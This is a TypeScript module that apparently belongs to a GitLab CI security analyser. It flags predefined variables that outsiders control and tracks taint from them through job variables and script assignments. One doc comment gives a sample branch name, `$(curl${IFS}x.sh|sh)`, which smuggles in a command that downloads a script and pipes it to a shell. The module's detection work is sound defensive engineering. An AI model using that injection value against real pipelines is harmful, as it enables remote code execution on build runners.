import { lexScript } from './shell-commands.ts';
import { taintedAssignments } from './code-sinks.ts';
import type { GitlabJob } from './gitlab-model.ts';

/**
 * Predefined variables whose text someone outside the project's maintainers can choose: commit
 * and tag messages, author names, branch and tag names, merge request titles and descriptions.
 * A branch may legally be called `$(curl${IFS}x.sh|sh)`. CI_COMMIT_REF_SLUG is left out: GitLab
 * reduces it to lowercase letters, digits and dashes.
 */
export const outsiderVariables: ReadonlyMap<string, string> = new Map([
  ['CI_COMMIT_MESSAGE', 'the commit message'],
  ['CI_COMMIT_TITLE', 'the commit title'],
  ['CI_COMMIT_DESCRIPTION', 'the commit description'],
  ['CI_COMMIT_TAG_MESSAGE', 'the tag message'],
  ['CI_COMMIT_AUTHOR', "the commit author's name"],
  ['CI_COMMIT_BRANCH', 'the branch name'],
  ['CI_COMMIT_REF_NAME', 'the branch or tag name'],
  ['CI_COMMIT_TAG', 'the tag name'],
  ['CI_MERGE_REQUEST_TITLE', 'the merge request title'],
  ['CI_MERGE_REQUEST_DESCRIPTION', 'the merge request description'],
  ['CI_MERGE_REQUEST_SOURCE_BRANCH_NAME', "the merge request's source branch name"],
  ['CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME', "the external pull request's source branch name"],
]);

/**
 * Names in one job that carry outsider text, with where it came from: the predefined variables,
 * `variables:` entries GitLab expands from them (unless `expand: false`), and shell assignments
 * from them in the job's scripts.
 */
export function outsiderTaint(job: GitlabJob): Map<string, string> {
  const tainted = new Map(outsiderVariables);
  const isTainted = (name: string) => tainted.has(name);
  for (let round = 0; round < 5; round += 1) {
    const before = tainted.size;
    for (const variable of job.variables) {
      if (variable.isRaw || !variable.value || tainted.has(variable.name)) continue;
      const source = referencedNames(variable.value.value).find(isTainted);
      if (source) tainted.set(variable.name, `${tainted.get(source)!} (through variable ${variable.name})`);
    }
    for (const item of job.scripts) {
      for (const name of taintedAssignments(lexScript(item.field.value), isTainted)) {
        if (!tainted.has(name)) tainted.set(name, `outsider text assigned to ${name}`);
      }
    }
    if (tainted.size === before) break;
  }
  return tainted;
}

/** `$NAME` and `${NAME}` references in a variable's value. */
function referencedNames(value: string): string[] {
  // A dollar, an optional brace, then an identifier.
  return [...value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!);
}
